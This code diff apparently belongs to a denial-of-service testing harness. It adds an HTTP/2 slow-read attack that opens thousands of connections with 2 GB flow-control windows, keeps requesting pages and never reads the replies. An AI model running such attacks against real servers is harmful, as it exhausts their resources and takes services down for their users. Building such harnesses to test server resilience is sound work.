@@ -101,4 +101,28 @@ const slowPeers: Attack = {
   }
 }
 
-export const attacks = [streams, halfPosts, slowPeers]
+const greedyReaders: Attack = {
+  name: 'attack-large-windows',
+  what: 'HTTP/2 connections with windows of 2 GB that go on asking for files and read nothing',
+  tls: true,
+  start: (url, size) =>
+    holdOpen({
+      url,
+      connections: part(size, 2000),
+      addresses: 20,
+      use(socket) {
+        socket.pause()
+        socket.write(Buffer.concat([h2.beginning({ window: h2.largestWindow }), h2.openWindow()]))
+        let asked = 0
+        const ask = () => {
+          const gets = Array.from({ length: pages }, () => h2.openGet(asked++, '/'))
+          socket.write(Buffer.concat(gets))
+        }
+        ask()
+        const asking = setInterval(ask, 2000)
+        socket.once('close', () => clearInterval(asking))
+      }
+    })
+}
+
+export const attacks = [streams, halfPosts, slowPeers, greedyReaders]
